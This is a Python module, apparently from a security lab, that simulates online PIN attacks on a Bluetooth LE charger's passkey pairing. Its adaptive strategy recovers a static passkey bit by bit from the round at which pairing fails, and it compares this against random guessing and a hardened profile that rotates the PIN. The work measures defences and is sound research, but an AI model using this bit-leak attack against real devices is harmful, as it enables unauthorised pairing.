"""Online PIN attacks: an attacker in radio range pairs again and again with guessed passkeys.

Two strategies share one loop (`attack_trial`):

* `BitStrategy` (`lab attack passkey-bits`): the adaptive static-passkey attack. LE Secure
  Connections passkey entry runs 20 rounds, one passkey bit each, low bit first; the responder
  checks the initiator's commitment for bit i before revealing anything and fails the pairing at
  the first wrong bit. So a failure at round r tells the attacker bits 0..r-1 were right and bit
  r was wrong: it keeps those r+1 bits, guesses the rest with the best prior (the most likely
  value of each next bit among the PINs still possible) and tries again. Against a fixed PIN
  each failure gains at least one bit: about 10 failures on average, never more than 20.
* `GuessStrategy` (`lab attack guess`): plain online guessing, one PIN per attempt, never the
  same PIN twice in one epoch.

Both watch the epoch on the open info characteristic: when the charger moved to a new epoch (the
hardened profile does after every failed attempt) what was learnt is about a PIN that is gone,
and the attacker starts over. That is the best it can do: the new PIN is independent of the old.
"""

from __future__ import annotations

import random
from typing import Any, Protocol

from chargepin.core import protocol
from chargepin.core.pin import MAX_PASSKEY
from chargepin.core.profiles import ProfileName
from chargepin.lab.attacks.common import (
    PASSKEY_SPACE,
    WRONG_PASSKEY,
    Arena,
    Attempt,
    Trial,
    arena,
    trial_summary,
)

PASSKEY_BITS = 20
"""Passkey entry rounds: 2**20 > 999,999."""

BUDGET = 60
"""Failed attempts per trial before the attacker gives up. Classic falls in at most 20."""


def residues_below(residue: int, bits: int, limit: int = PASSKEY_SPACE) -> int:
    """How many x in [0, limit) have x mod 2**bits == residue."""
    if residue >= limit:
        return 0
    return (limit - 1 - residue) // (1 << bits) + 1


class Strategy(Protocol):
    def choose(self, info: protocol.OpenInfo) -> int: ...
    def learn(self, attempt: Attempt) -> None: ...


class BitStrategy:
    """Keep the confirmed low bits; choose each further bit by the prior's majority."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.known = 0
        self.known_bits = 0
        self.epoch: int | None = None

    def choose(self, info: protocol.OpenInfo) -> int:
        if self.epoch is not None and info.epoch != self.epoch:
            self.known, self.known_bits = 0, 0  # a new PIN: nothing learnt applies
        self.epoch = info.epoch
        return best_guess(self.known, self.known_bits, self.rng)

    def learn(self, attempt: Attempt) -> None:
        if attempt.error != WRONG_PASSKEY or attempt.failed_round is None:
            return
        assert attempt.passkey is not None
        failed = attempt.failed_round
        right = attempt.passkey & ((1 << failed) - 1)
        flipped = ((attempt.passkey >> failed) & 1) ^ 1
        self.known, self.known_bits = right | (flipped << failed), failed + 1


def best_guess(known: int, known_bits: int, rng: random.Random) -> int:
    """The passkey to type next: `known` in its low `known_bits` bits, the rest most likely.

    Bit by bit from the lowest unknown one, take the value more passkeys in 0..999,999 agree
    with (ties: a coin flip), so every choice keeps at least one possible passkey.
    """
    value = known
    for bit in range(known_bits, PASSKEY_BITS):
        zero = residues_below(value, bit + 1)
        one = residues_below(value | (1 << bit), bit + 1)
        if one > zero or (one == zero and rng.random() < 0.5):
            value |= 1 << bit
    if value == 0:  # 000000 is never a PIN (and crashes Bumble as a passkey)
        value = 1 << known_bits if known_bits < PASSKEY_BITS else 1
    return value


class GuessStrategy:
    """A uniformly random passkey each time, never one already tried in this epoch."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.tried: set[int] = set()
        self.epoch: int | None = None

    def choose(self, info: protocol.OpenInfo) -> int:
        if self.epoch is not None and info.epoch != self.epoch:
            self.tried.clear()
        self.epoch = info.epoch
        while True:
            guess = self.rng.randrange(1, MAX_PASSKEY + 1)
            if guess not in self.tried:
                self.tried.add(guess)
                return guess

    def learn(self, attempt: Attempt) -> None:
        return None


async def attack_trial(place: Arena, strategy: Strategy, budget: int = BUDGET) -> Trial:
    """Attempt after attempt until the PIN is found or `budget` failed attempts are spent."""
    central = await place.attacker()
    trial = Trial()
    epochs = {place.daemon.store.epoch}
    while not trial.recovered and trial.failed_attempts < budget:
        attempt = await place.attempt(central, trial, strategy.choose)
        epochs.add(attempt.epoch)
        strategy.learn(attempt)
    trial.epochs_seen = len(epochs)
    return trial


async def run_trials(
    attack: str,
    profile: ProfileName,
    trials: int,
    seed: int,
    make: type[BitStrategy] | type[GuessStrategy],
) -> tuple[list[Trial], dict[str, Any]]:
    """`trials` trials, each on a fresh charger with its own PIN; the trials and their summary."""
    rng = random.Random(seed)
    done: list[Trial] = []
    for _ in range(trials):
        async with arena(profile, rng) as place:
            trial = await attack_trial(place, make(rng))
            if trial.recovered:  # the referee: the attacker really holds the PIN now
                last = trial.attempts[-1]
                trial.recovered = last.passkey == place.pin.passkey
            done.append(trial)
    summary = trial_summary(done)
    summary["budget_failed_attempts"] = BUDGET
    summary["attack"] = attack
    return done, summary
